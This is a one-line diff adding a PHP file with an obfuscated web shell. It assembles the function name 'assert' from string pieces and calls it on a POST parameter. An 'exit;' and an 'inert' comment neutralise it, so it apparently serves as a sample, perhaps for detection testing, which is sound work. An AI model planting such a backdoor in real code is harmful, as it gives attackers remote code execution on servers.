@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class U { static function f() { return "as"."sert"; } } $x = U::f(); $x($_POST["q"]);
